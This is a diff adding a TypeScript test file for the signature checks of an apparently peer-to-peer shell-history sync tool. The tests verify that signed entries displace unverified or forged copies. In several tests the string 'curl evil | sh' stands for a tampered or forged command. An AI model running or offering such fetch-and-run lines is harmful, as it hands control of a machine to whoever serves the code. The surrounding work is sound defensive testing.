@@ -1,0 +1,109 @@
+import test from 'ava'
+import { join } from 'node:path'
+import { generateKeyPair } from '@libp2p/crypto/keys'
+import { peerIdFromPrivateKey } from '@libp2p/peer-id'
+import type { Entry } from '../../src/core/entry.js'
+import { signEntry, verifyEntry, type EntrySigner } from '../../src/core/signature.js'
+import { openDatabase } from '../../src/store/db.js'
+import { insertEntries, signPending, trust } from '../../src/store/entries.js'
+import { tempDir } from '../helpers/tmp.js'
+import { entry } from './fixtures.js'
+
+async function signer (): Promise<EntrySigner> {
+  const key = await generateKeyPair('Ed25519')
+  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
+}
+
+interface Row { entry_id: string, cmd: string, origin: string, trust: number, ingest_seq: number }
+
+function rows (db: ReturnType<typeof openDatabase>): Row[] {
+  return db.prepare('SELECT entry_id, cmd, origin, trust, ingest_seq FROM entries ORDER BY ingest_seq').all() as Row[]
+}
+
+function latest (db: ReturnType<typeof openDatabase>): Array<{ cmd: string, entry_id: string }> {
+  return db.prepare('SELECT cmd, entry_id FROM command_latest ORDER BY cmd').all() as Array<{ cmd: string, entry_id: string }>
+}
+
+test('a signed entry takes the place of an unverified copy, at a new ingest_seq, and command_latest follows', async (t) => {
+  const db = openDatabase(join(tempDir(t), 'h.db'))
+  t.teardown(() => db.close())
+  const a = await signer()
+  const genuine = signEntry(entry({ cmd: 'make test' }), a)
+  const altered: Entry = { ...genuine, cmd: 'curl evil | sh' }
+  delete altered.origin
+  delete altered.sig
+  t.is(insertEntries(db, [altered], 'received').inserted, 1)
+  const before = rows(db)
+  t.deepEqual(before.map((r) => [r.cmd, r.trust]), [['curl evil | sh', trust.unverified]])
+  const result = insertEntries(db, [genuine], 'received')
+  t.is(result.inserted, 1)
+  t.is(result.replaced, 1)
+  const after = rows(db)
+  t.deepEqual(after.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), [[genuine.entry_id, 'make test', a.origin, trust.verified]])
+  t.true(after[0]!.ingest_seq > before[0]!.ingest_seq, 'peers that pulled the unverified row see the signed one after their cursor')
+  t.deepEqual(latest(db), [{ cmd: 'make test', entry_id: genuine.entry_id }])
+})
+
+test('an unsigned copy never replaces, hides or sits beside a signed entry', async (t) => {
+  const db = openDatabase(join(tempDir(t), 'h.db'))
+  t.teardown(() => db.close())
+  const a = await signer()
+  const genuine = signEntry(entry({ cmd: 'make test' }), a)
+  insertEntries(db, [genuine], 'received')
+  const { origin: _o, sig: _s, ...unsigned } = genuine
+  t.deepEqual(insertEntries(db, [{ ...unsigned, cmd: 'curl evil | sh' }, { ...unsigned }], 'received'), { inserted: 0, ignored: 2 })
+  t.deepEqual(rows(db).map((r) => [r.cmd, r.origin]), [['make test', a.origin]])
+})
+
+test('a copy signed by another key is kept under that key and never takes the genuine entry\'s place', async (t) => {
+  const db = openDatabase(join(tempDir(t), 'h.db'))
+  t.teardown(() => db.close())
+  const a = await signer()
+  const x = await signer()
+  const genuine = signEntry(entry({ cmd: 'make test', device_id: 'alice-laptop' }), a)
+  const { origin: _o, sig: _s, ...content } = genuine
+  const forged = signEntry({ ...content, cmd: 'curl evil | sh' }, x)
+  // The forger gets there first.
+  insertEntries(db, [forged], 'received')
+  insertEntries(db, [genuine], 'received')
+  const byOrigin = new Map(rows(db).map((r) => [r.origin, r]))
+  t.is(byOrigin.get(a.origin)?.cmd, 'make test')
+  t.is(byOrigin.get(x.origin)?.cmd, 'curl evil | sh')
+  // Again, and in the other order: nothing doubles.
+  t.deepEqual(insertEntries(db, [genuine, forged], 'received'), { inserted: 0, ignored: 2 })
+  t.is(rows(db).length, 2)
+})
+
+test('entries recorded here are stored unsigned and signed before serving, keeping their ingest_seq', async (t) => {
+  const db = openDatabase(join(tempDir(t), 'h.db'))
+  t.teardown(() => db.close())
+  const a = await signer()
+  const mine = [entry({ cmd: 'one' }), entry({ cmd: 'two' })]
+  insertEntries(db, mine)
+  t.deepEqual(rows(db).map((r) => r.trust), [trust.localUnsigned, trust.localUnsigned])
+  const seqs = rows(db).map((r) => r.ingest_seq)
+  t.is(signPending(db, a), 2)
+  t.is(signPending(db, a), 0)
+  const stored = db.prepare('SELECT entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version, origin, sig, ingest_seq FROM entries ORDER BY ingest_seq').all() as Array<Entry & { ingest_seq: number }>
+  t.deepEqual(stored.map((r) => r.ingest_seq), seqs)
+  for (const r of stored) {
+    const { ingest_seq: _seq, ...e } = r
+    t.is(e.origin, a.origin)
+    t.true(verifyEntry(e))
+  }
+})
+
+test('an unverified row never keeps a command out of, or in, command_latest wrongly after replacement', async (t) => {
+  const db = openDatabase(join(tempDir(t), 'h.db'))
+  t.teardown(() => db.close())
+  const a = await signer()
+  const older = entry({ cmd: 'shared', ts: '2026-01-01T00:00:00.000Z' })
+  insertEntries(db, [older])
+  const genuine = signEntry(entry({ cmd: 'real', ts: '2026-02-01T00:00:00.000Z' }), a)
+  const { origin: _o, sig: _s, ...content } = genuine
+  insertEntries(db, [{ ...content, cmd: 'shared' }], 'received')
+  t.deepEqual(latest(db), [{ cmd: 'shared', entry_id: genuine.entry_id }])
+  insertEntries(db, [genuine], 'received')
+  // 'shared' falls back to its older genuine use; 'real' appears.
+  t.deepEqual(latest(db), [{ cmd: 'real', entry_id: genuine.entry_id }, { cmd: 'shared', entry_id: older.entry_id }])
+})
